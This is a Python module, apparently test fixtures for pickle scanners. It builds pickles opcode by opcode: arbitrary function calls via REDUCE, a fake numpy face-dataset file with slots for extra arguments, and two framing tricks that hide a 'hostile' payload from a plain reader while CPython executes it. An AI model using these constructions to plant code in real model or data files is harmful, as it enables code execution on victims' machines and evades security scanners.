"""Pickles put together step by step, and a split's file with a place to lie at each of its arguments."""

import io
import pickle


def text(value: str) -> bytes:
    data = value.encode("utf-8", "surrogatepass")
    if len(data) < 256:
        return pickle.SHORT_BINUNICODE + bytes([len(data)]) + data
    return pickle.BINUNICODE + len(data).to_bytes(4, "little") + data


def blob(value: bytes) -> bytes:
    if len(value) < 256:
        return pickle.SHORT_BINBYTES + bytes([len(value)]) + value
    return pickle.BINBYTES + len(value).to_bytes(4, "little") + value


def number(value: int) -> bytes:
    if -(2**31) <= value < 2**31:
        return pickle.BININT + value.to_bytes(4, "little", signed=True)
    return pickle.LONG1 + bytes([9]) + value.to_bytes(9, "little", signed=True)


def row(*items: bytes) -> bytes:
    return pickle.MARK + b"".join(items) + pickle.TUPLE


def items_of(*items: bytes) -> bytes:
    return pickle.MARK + b"".join(items) + pickle.LIST


def record(**items: bytes) -> bytes:
    return (
        pickle.EMPTY_DICT
        + pickle.MARK
        + b"".join(text(key) + value for key, value in items.items())
        + pickle.SETITEMS
    )


def name(module: str, attribute: str) -> bytes:
    return text(module) + text(attribute) + pickle.STACK_GLOBAL


def old_name(module: str, attribute: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{attribute}\n".encode()


def called(function: bytes, *arguments: bytes) -> bytes:
    return function + row(*arguments) + pickle.REDUCE


def run(module: str, attribute: str, *arguments: bytes) -> bytes:
    return called(name(module, attribute), *arguments)


def method(thing: bytes, attribute: str, *arguments: bytes) -> bytes:
    """What thing.attribute(*arguments) gives."""
    return called(run("operator", "methodcaller", text(attribute), *arguments), thing)


def program(*steps: bytes, protocol: int = 5) -> bytes:
    return pickle.PROTO + bytes([protocol]) + b"".join(steps) + pickle.STOP


def framed(length: int) -> bytes:
    return pickle.FRAME + length.to_bytes(8, "little")


FACES = 2
LAB = bytes(FACES * 112 * 112 * 3)
WHO = "".join(f"{who:02d}" for who in range(FACES)).encode("utf-32-le")
DTYPE, FROMBUFFER = name("numpy", "dtype"), name("numpy._core.numeric", "_frombuffer")
LAB_SHAPE = row(number(FACES), number(112), number(112), number(3))
FLAGS = (pickle.NEWFALSE, pickle.NEWTRUE)


def state(
    order: str,
    size: int,
    subdtype=pickle.NONE,
    names=pickle.NONE,
    fields=pickle.NONE,
    flags: int = 0,
) -> bytes:
    """What a pickle tells a dtype about itself."""
    return (
        row(number(3), text(order), subdtype, names, fields, number(size), number(1), number(flags))
        + pickle.BUILD
    )


def dtype(code: str, told: bytes) -> bytes:
    return called(DTYPE, text(code), *FLAGS) + told


U1, U2 = dtype("u1", state("|", -1)), dtype("U2", state("<", 8, flags=8))


def lab_of(buffer=blob(LAB), kind=U1, shape=LAB_SHAPE, order=text("C"), *more: bytes) -> bytes:
    return called(FROMBUFFER, buffer, kind, shape, order, *more)


def who_of(
    buffer=blob(WHO), kind=U2, shape=number(FACES) + pickle.TUPLE1, order=text("C")
) -> bytes:
    return called(FROMBUFFER, buffer, kind, shape, order)


def split_file(lab=lab_of(), identities=who_of(), **more: bytes) -> bytes:
    return program(record(lab=lab, identities=identities, **more))


FILLER = blob(bytes(2**18))  # CPython reads a longer frame than its buffer by itself


def hidden_by_a_frame(hostile: bytes) -> bytes:
    """To a plain reader a text and bytes; CPython forgets the five letters that are in the frame, and takes the bytes for its program."""
    length = len(hostile).to_bytes(4, "little")
    return program(
        framed(len(FILLER) + 7),
        FILLER,
        pickle.SHORT_BINUNICODE,
        b"\x09",
        b"five!",
        b"four",
        pickle.BINBYTES,
        length,
        hostile,
    )


def hidden_by_two_frames(hostile: bytes) -> bytes:
    """To a plain reader bytes in a frame in a frame; CPython forgets how they begin, and takes them for its program."""
    start = pickle.BINBYTES + len(hostile).to_bytes(4, "little")
    inner = framed(len(start + hostile))
    return program(
        framed(len(FILLER + inner + start)), FILLER, inner, start, hostile, 5 * pickle.NONE
    )


def careless(data: bytes) -> object:
    """An ordinary unpickler."""
    return pickle.load(io.BytesIO(data))
